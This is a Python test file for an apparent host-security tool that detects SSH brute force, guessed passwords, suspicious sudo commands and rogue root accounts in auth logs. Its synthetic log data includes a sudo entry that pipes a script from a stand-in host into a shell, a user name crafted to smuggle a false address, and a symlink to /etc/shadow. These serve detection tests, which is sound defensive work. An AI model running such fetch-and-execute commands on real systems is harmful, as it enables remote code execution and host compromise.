"""Authentication log inspection (workload/logs.py, the auth_logs collector, `cloudward host logs`):
real log text written by the tests — brute force then success, near misses, both syslog formats,
rotated gzip files, garbage, the journal — and bounded memory on a 200 MB log."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from cloudward.cli.common import load_all_rules
from cloudward.core.severity import Severity
from cloudward.workload import HostRoot, run_audit
from cloudward.workload.logs import (
    AuthLogAnalyzer,
    LogOptions,
    default_files,
    journal_entries,
    read_lines,
    run_logs,
)
from tests.harness.hostroot import build_clean_root, write

CLI = shutil.which("cloudward", path=str(Path(sys.executable).parent)) or "cloudward"
T0 = datetime(2026, 11, 27, 8, 0, 0)
ATTACKER = "198.51.100.23"


@pytest.fixture(scope="module")
def host_rules():
    return load_all_rules().engine("host")


def rfc(when: datetime, program: str, message: str, host: str = "web1") -> str:
    return f"{when:%b} {when.day:>2} {when:%H:%M:%S} {host} {program}: {message}\n"


def iso(when: datetime, program: str, message: str, host: str = "web1") -> str:
    return f"{when.replace(tzinfo=UTC).isoformat(timespec='microseconds')} {host} {program}: {message}\n"


def brute_force(fmt=rfc, failures: int = 30, spacing: float = 2.0, start: datetime = T0, address: str = ATTACKER,
                success: str | None = "password", user: str = "admin") -> str:
    lines = []
    users = ["root", "admin", "oracle", "ubuntu", "test"]
    for i in range(failures):
        when = start + timedelta(seconds=i * spacing)
        tried = users[i % len(users)]
        if tried in ("oracle", "ubuntu", "test"):
            lines.append(fmt(when, f"sshd[{1000 + i}]", f"Invalid user {tried} from {address} port {40000 + i}"))
            lines.append(fmt(when, f"sshd[{1000 + i}]",
                             f"Failed password for invalid user {tried} from {address} port {40000 + i} ssh2"))
        else:
            lines.append(fmt(when, f"sshd[{1000 + i}]",
                             f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                             f"rhost={address}  user={tried}"))
            lines.append(fmt(when, f"sshd[{1000 + i}]",
                             f"Failed password for {tried} from {address} port {40000 + i} ssh2"))
    if success:
        when = start + timedelta(seconds=failures * spacing + 5)
        lines.append(fmt(when, "sshd[2000]", f"Accepted {success} for {user} from {address} port 50000 ssh2"))
    return "".join(lines)


def analyze(text: str | bytes, options: LogOptions | None = None, reference: datetime = T0 + timedelta(days=1)):
    analyzer = AuthLogAnalyzer(options)
    data = text.encode() if isinstance(text, str) else text
    analyzer.feed_file("/var/log/auth.log", io.BytesIO(data), reference=reference.replace(tzinfo=UTC))
    return analyzer, list(analyzer.observations())


def fired(observations, host_rules) -> dict[str, list]:
    from cloudward.core.finding import Target
    from cloudward.workload.evaluate import compile_rules, evaluate

    compiled = compile_rules(host_rules)
    out: dict[str, list] = {}
    for observation in observations:
        for finding in evaluate(observation, compiled, Target(kind="host", name="t")):
            out.setdefault(finding.rule_id, []).append(finding)
    return out


def source(observations, address: str = ATTACKER) -> dict:
    return next(dict(o.facts) for o in observations if o.subject == "auth_source" and o.key == address)


@pytest.mark.parametrize("fmt", [rfc, iso], ids=["rfc3164", "iso8601"])
def test_brute_force_then_password_success(fmt, host_rules) -> None:
    _, observations = analyze(brute_force(fmt))
    facts = source(observations)
    # Each attempt counts once: "Invalid user" + its "Failed password for invalid user", and the PAM line.
    assert facts["failures"] == 30 and facts["invalid_user_attempts"] == 18
    assert facts["brute_force"] and facts["success_after_failures"] and facts["success_password"]
    assert facts["success_user"] == "admin" and facts["success_user_was_tried"]
    assert set(facts["users_tried"]) == {"root", "admin", "oracle", "ubuntu", "test"}
    assert facts["first_seen"] == "2026-11-27T08:00:00+00:00"
    assert facts["burst_start"] == "2026-11-27T08:00:00+00:00"
    found = fired(observations, host_rules)
    guessed = found["host.logs.ssh_password_guessed"][0]
    assert guessed.severity is Severity.CRITICAL
    assert guessed.evidence["address"] == ATTACKER and guessed.evidence["success_failures_before"] == 30
    assert {"T1110.001", "T1078"} <= set(guessed.attack)
    assert found["host.logs.ssh_brute_force"][0].evidence["failures"] == 30
    assert "host.logs.ssh_key_login_from_guessing_address" not in found


def test_near_miss_below_threshold(host_rules) -> None:
    _, observations = analyze(brute_force(failures=9))
    facts = source(observations)
    assert facts["failures"] == 9 and not facts["brute_force"] and not facts["success_after_failures"]
    assert fired(observations, host_rules).keys().isdisjoint(
        {"host.logs.ssh_brute_force", "host.logs.ssh_password_guessed"})


def test_failures_spread_beyond_the_window_are_not_a_burst(host_rules) -> None:
    _, observations = analyze(brute_force(failures=20, spacing=120))  # one try every 2 minutes
    assert not source(observations)["brute_force"]
    # ... unless the window is widened.
    _, observations = analyze(brute_force(failures=20, spacing=120), LogOptions(window=3600))
    assert source(observations)["brute_force"]
    _, observations = analyze(brute_force(failures=20), LogOptions(threshold=25))
    assert not source(observations)["brute_force"]


def test_key_login_after_burst_is_not_a_guessed_password(host_rules) -> None:
    _, observations = analyze(brute_force(success="publickey"))
    found = fired(observations, host_rules)
    assert "host.logs.ssh_password_guessed" not in found
    assert found["host.logs.ssh_key_login_from_guessing_address"][0].severity is Severity.MEDIUM


def test_success_from_another_address_is_not_guessed(host_rules) -> None:
    text = brute_force(success=None) + rfc(T0 + timedelta(minutes=5), "sshd[9]",
                                           "Accepted password for admin from 192.0.2.10 port 1 ssh2")
    found = fired(analyze(text)[1], host_rules)
    assert "host.logs.ssh_password_guessed" not in found and "host.logs.ssh_brute_force" in found


def test_repeated_messages_and_hostile_user_names(host_rules) -> None:
    text = rfc(T0, "sshd[1]", f"message repeated 12 times: [ Failed password for root from {ATTACKER} port 22 ssh2]")
    # A user name that tries to smuggle another address: the real one is the last "from … port".
    text += rfc(T0, "sshd[2]", "Invalid user x from 6.6.6.6 port 1 from 192.0.2.99 port 22")
    _, observations = analyze(text)
    assert source(observations)["failures"] == 12 and source(observations)["brute_force"]
    assert source(observations, "192.0.2.99")["users_tried"] == ["x from 6.6.6.6 port 1"]
    assert not [o for o in observations if o.key == "6.6.6.6"]


def test_accounts_sudo_and_root_logins(host_rules) -> None:
    lines = [
        rfc(T0, "sshd[5]", "Accepted password for root from 203.0.113.9 port 5 ssh2"),
        rfc(T0, "useradd[6]", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"),
        rfc(T0, "useradd[7]", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=none"),
        rfc(T0, "groupadd[8]", "new group: name=bob, GID=1001"),
        rfc(T0, "usermod[9]", "add 'bob' to group 'docker'"),
        rfc(T0, "usermod[9]", "add 'bob' to shadow group 'docker'"),
        rfc(T0, "usermod[10]", "add 'bob' to group 'audio'"),
        rfc(T0, "usermod[11]", "change user 'bob' UID from '1001' to '0'"),
        rfc(T0, "passwd[12]", "pam_unix(passwd:chauthtok): password changed for root"),
        rfc(T0, "sudo", "   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update"),
        rfc(T0, "sudo", "   admin : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl -fsSL "
                        "http://example.invalid/i.sh | sh"),
        rfc(T0, "sudo", "   bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"),
        rfc(T0, "sudo", "   carol : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/id"),
        rfc(T0, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by admin(uid=1000)"),
    ]
    _, observations = analyze("".join(lines))
    found = fired(observations, host_rules)
    assert found["host.logs.root_password_login"][0].evidence["sources"] == ["203.0.113.9"]
    assert sorted(f.evidence["user"] for f in found["host.logs.uid0_account_created"]) == ["bob", "toor"]
    assert [f.evidence["user"] for f in found["host.logs.user_created"]] == ["bob"]
    assert [f.evidence["group"] for f in found["host.logs.privileged_group_membership"]] == ["docker"]
    assert found["host.logs.root_password_changed"]
    suspicious = found["host.logs.sudo_suspicious_command"][0]
    assert suspicious.evidence["user"] == "admin" and "example.invalid" in suspicious.evidence["suspicious_commands"][0]
    assert sorted(f.evidence["user"] for f in found["host.logs.sudo_denied"]) == ["bob", "carol"]
    root_use = found["host.logs.sudo_to_root"]
    assert [(f.evidence["user"], f.evidence["as_root"]) for f in root_use] == [("admin", 2)]
    assert root_use[0].severity is Severity.INFO
    events = [o for o in observations if o.subject == "auth_event"]
    assert [e.facts["group"] for e in events if e.facts["kind"] == "group_member"] == ["docker", "audio"]


def test_year_is_inferred_from_the_file_time() -> None:
    text = rfc(datetime(2026, 12, 31, 23, 59, 0), "sshd[1]", f"Failed password for root from {ATTACKER} port 1 ssh2")
    text += rfc(datetime(2027, 1, 1, 0, 1, 0), "sshd[1]", f"Failed password for root from {ATTACKER} port 1 ssh2")
    _, observations = analyze(text, reference=datetime(2027, 1, 1, 0, 5))
    facts = source(observations)
    assert facts["first_seen"] == "2026-12-31T23:59:00+00:00" and facts["last_seen"] == "2027-01-01T00:01:00+00:00"
    leap = rfc(datetime(2024, 2, 29, 10, 0, 0), "sshd[1]", f"Failed password for root from {ATTACKER} port 1 ssh2")
    assert source(analyze(leap, reference=datetime(2025, 3, 1))[1])["first_seen"] == "2024-02-29T10:00:00+00:00"


def test_garbage_overlong_and_binary_lines_are_counted_and_skipped(host_rules) -> None:
    data = (b"\x00\x01\x02\xff\xfe binary\n" + b"\xff" * 500 + b"\n" + b"A" * 200_000 + b"\n"
            + b"Nov 27 08:00:00 web1 sshd[1]: not-a-known message\n"
            + b"this is not syslog but says sshd\n" + brute_force(failures=12).encode())
    _analyzer, observations = analyze(data)
    summary = next(o.facts for o in observations if o.subject == "auth_log")
    assert summary["garbage_lines"] == 2 and summary["overlong_lines"] == 1 and summary["unparsed_lines"] == 1
    assert source(observations)["brute_force"]  # the real lines after the garbage still count
    assert "host.logs.ssh_password_guessed" in fired(observations, host_rules)


def test_read_lines_never_holds_a_long_line() -> None:
    stream = io.BytesIO(b"short\n" + b"x" * 1_000_000 + b"\nafter\nno-newline-at-end")
    assert list(read_lines(stream, 1024)) == [b"short\n", None, b"after\n", b"no-newline-at-end"]


def test_rotated_gzip_files_oldest_first_and_a_bad_gz_is_a_file_error(tmp_path: Path, host_rules) -> None:
    logs = tmp_path / "log"
    logs.mkdir()
    text = brute_force(success=None)
    with gzip.open(logs / "auth.log.2.gz", "wt") as handle:
        handle.write(text)
    (logs / "auth.log.1").write_text(rfc(T0 + timedelta(minutes=2), "sshd[9]",
                                         f"Accepted password for admin from {ATTACKER} port 9 ssh2"))
    (logs / "auth.log.3.gz").write_bytes(gzip.compress(b"Nov 27 07:00:00 web1 sshd[1]: x\n")[:-12] + b"corrupt!")
    (logs / "auth.log").write_text("")
    files = default_files(listdir=lambda d: os.listdir(logs) if d == "/var/log" else [],
                          exists=lambda p: p == "/var/log/auth.log")
    assert files == ["/var/log/auth.log.3.gz", "/var/log/auth.log.2.gz", "/var/log/auth.log.1", "/var/log/auth.log"]
    real = [str(logs / Path(f).name) for f in files]
    result = run_logs(real, host_rules)
    assert [e.target for e in result.errors] == [real[0]]  # the corrupt gz, named
    assert "host.logs.ssh_password_guessed" in {f.rule_id for f in result.findings}
    inventory = {Path(i["path"]).name: i for i in result.inventory}
    assert inventory["auth.log.2.gz"]["compressed"] and inventory["auth.log.2.gz"]["lines"] == 60


def test_journal_json_entries(host_rules) -> None:
    """journalctl -o json lines as journald writes them (a non-UTF-8 MESSAGE comes as a byte array)."""
    captured = [
        {"__REALTIME_TIMESTAMP": str(int((T0.replace(tzinfo=UTC) + timedelta(seconds=i)).timestamp() * 1e6)),
         "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd", "_PID": "77", "_COMM": "sshd", "PRIORITY": "6",
         "MESSAGE": f"Failed password for root from {ATTACKER} port {i} ssh2"} for i in range(10)
    ]
    captured.append({"__REALTIME_TIMESTAMP": str(int((T0.replace(tzinfo=UTC) + timedelta(seconds=30)).timestamp()
                                                     * 1e6)), "SYSLOG_IDENTIFIER": "sshd-session",
                     "MESSAGE": list(f"Accepted password for root from {ATTACKER} port 1 ssh2".encode())})
    captured.append({"SYSLOG_IDENTIFIER": "sudo", "MESSAGE": None})
    lines = [json.loads(json.dumps(entry)) for entry in captured]
    analyzer = AuthLogAnalyzer()
    analyzer.feed_journal(lines)
    found = fired(list(analyzer.observations()), host_rules)
    assert found["host.logs.ssh_password_guessed"][0].evidence["success_user"] == "root"
    assert found["host.logs.root_password_login"]


def test_real_journalctl_runs(host_rules) -> None:
    """The real journal of this machine (often empty in a container): the call must succeed."""
    assert shutil.which("journalctl"), "journalctl is needed (Debian package systemd)"
    errors: list[tuple[str, str]] = []
    entries = list(journal_entries(lambda item, message: errors.append((item, message)), max_entries=1000))
    assert errors == []
    assert all(isinstance(e, dict) and "MESSAGE" in e for e in entries)
    result = run_logs([], host_rules, journal=True)
    assert result.status.value == "completed" and result.errors == []


def test_sources_are_bounded_and_attackers_still_seen() -> None:
    lines = [rfc(T0 + timedelta(seconds=i // 100), "sshd[1]",
                 f"Failed password for root from 10.{i // 65536}.{i // 256 % 256}.{i % 256} port 1 ssh2")
             for i in range(30_000)]
    lines.append(brute_force(start=T0 + timedelta(minutes=10)))
    analyzer, observations = analyze("".join(lines), LogOptions(max_sources=1000))
    assert len(analyzer.sources) <= 1000 and analyzer.sources_forgotten >= 29_000
    assert source(observations)["success_after_failures"]


MEMORY_PROBE = """
import io, resource, sys
from datetime import datetime, UTC
from cloudward.workload.logs import AuthLogAnalyzer, analyze_file
analyzer = AuthLogAnalyzer()
analyze_file(analyzer, sys.argv[1], sys.argv[1], lambda item, message: print(message, file=sys.stderr))
observations = list(analyzer.observations())
summary = [o.facts for o in observations if o.subject == "auth_log"][0]
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, summary["lines"], summary["overlong_lines"],
      sum(1 for o in observations if o.subject == "auth_source" and o.facts["brute_force"]))
"""


def _probe(path: Path) -> list[int]:
    done = subprocess.run([sys.executable, "-c", MEMORY_PROBE, str(path)], capture_output=True, text=True,
                          timeout=900, check=True)
    return [int(x) for x in done.stdout.split()]


def test_a_200_mb_log_is_streamed_in_bounded_memory(tmp_path: Path) -> None:
    small = tmp_path / "small.log"
    small.write_text(brute_force())
    big = tmp_path / "big.log"
    block = "".join(rfc(T0 + timedelta(seconds=i), "sshd[1]",
                        f"Failed password for invalid user u{i} from 10.1.{i % 200}.{i % 250} port {i} ssh2")
                    for i in range(2000)).encode()
    noise = b"Nov 27 08:00:00 web1 CRON[1]: pam_unix(cron:session): session closed for user root\n" * 2000
    with big.open("wb") as handle:
        while handle.tell() < 200 * 1024 * 1024:
            handle.write(block)
            handle.write(noise)
        handle.write(b"y" * (20 * 1024 * 1024) + b"\n")  # one 20 MB line
        handle.write(brute_force().encode())
    base_rss, _, _, _ = _probe(small)
    big_rss, lines, overlong, brute = _probe(big)
    assert lines > 2_000_000 and overlong == 1 and brute >= 1
    # ru_maxrss is in KiB: the growth must stay far below the file's size (200 MB).
    assert (big_rss - base_rss) < 64 * 1024, f"peak RSS grew by {(big_rss - base_rss) // 1024} MiB"


# --- the collector, in an audit -------------------------------------------------------------


def test_collector_in_a_host_audit(tmp_path: Path, host_rules) -> None:
    root = build_clean_root(tmp_path / "root")
    clean = run_audit(HostRoot(root), host_rules, only=["auth_logs"], processes=False)
    assert {f.rule_id for f in clean.findings} == {"host.logs.sudo_to_root"}  # the stock log's admin sudo
    write(root, "/var/log/auth.log", brute_force(), 0o640)
    result = run_audit(HostRoot(root), host_rules, only=["auth_logs"], processes=False)
    assert "host.logs.ssh_password_guessed" in {f.rule_id for f in result.findings}
    assert not result.errors


def test_collector_reads_only_the_tail(tmp_path: Path, host_rules) -> None:
    root = build_clean_root(tmp_path / "root")
    # The brute force is at the start of a log much longer than the tail the audit reads.
    filler = rfc(T0 + timedelta(hours=1), "CRON[1]", "pam_unix(cron:session): session closed for user root") * 40_000
    write(root, "/var/log/auth.log", brute_force() + filler, 0o640)
    options = {"auth_log_tail_mb": 1}
    result = run_audit(HostRoot(root), host_rules, only=["auth_logs"], processes=False, options=options)
    assert "host.logs.ssh_password_guessed" not in {f.rule_id for f in result.findings}
    whole = run_audit(HostRoot(root), host_rules, only=["auth_logs"], processes=False,
                      options={"auth_log_tail_mb": 64})
    assert "host.logs.ssh_password_guessed" in {f.rule_id for f in whole.findings}


def test_collector_hostile_log(tmp_path: Path, host_rules) -> None:
    root = build_clean_root(tmp_path / "root")
    (root / "var/log/auth.log").unlink()
    os.mkfifo(root / "var/log/auth.log")  # would block a naive reader forever
    os.symlink("/etc/shadow", root / "var/log/secure")  # resolves inside the root: read as a log, no events
    result = run_audit(HostRoot(root), host_rules, only=["auth_logs"], processes=False)
    assert [e.target for e in result.errors] == ["/var/log/auth.log"]
    assert "not a regular file" in result.errors[0].message


# --- the command ------------------------------------------------------------------------------


def _cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CLOUDWARD_DATA_DIR": str(tmp_path / "data"), "COLUMNS": "200"}
    env.pop("CLOUDWARD_DB_URL", None)
    return subprocess.run([CLI, "host", "logs", *args], capture_output=True, text=True, env=env, timeout=300,
                          cwd=tmp_path)


def test_cli_logs(tmp_path: Path) -> None:
    log = tmp_path / "auth.log"
    log.write_text(brute_force())
    done = _cli(tmp_path, str(log), "--format", "json", "--fail-on", "critical")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert report["scan"]["kind"] == "logs"
    guessed = next(f for f in report["findings"] if f["rule_id"] == "host.logs.ssh_password_guessed")
    assert guessed["evidence"]["address"] == ATTACKER and guessed["location"]["path"] == str(log)
    near = _cli(tmp_path, str(log), "--format", "json", "--threshold", "31", "--no-store")
    assert near.returncode == 0
    assert "host.logs.ssh_password_guessed" not in near.stdout
    assert _cli(tmp_path, str(tmp_path / "missing.log")).returncode == 2
    assert _cli(tmp_path, str(log), "--window", "0").returncode == 2


def test_cli_logs_default_sources_on_this_machine(tmp_path: Path) -> None:
    """No FILE: this machine's auth logs, or its journal when it has none; either way it must run."""
    done = _cli(tmp_path, "--format", "json", "--no-store")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["scan"]["targets"] == (default_files() or ["journal"])
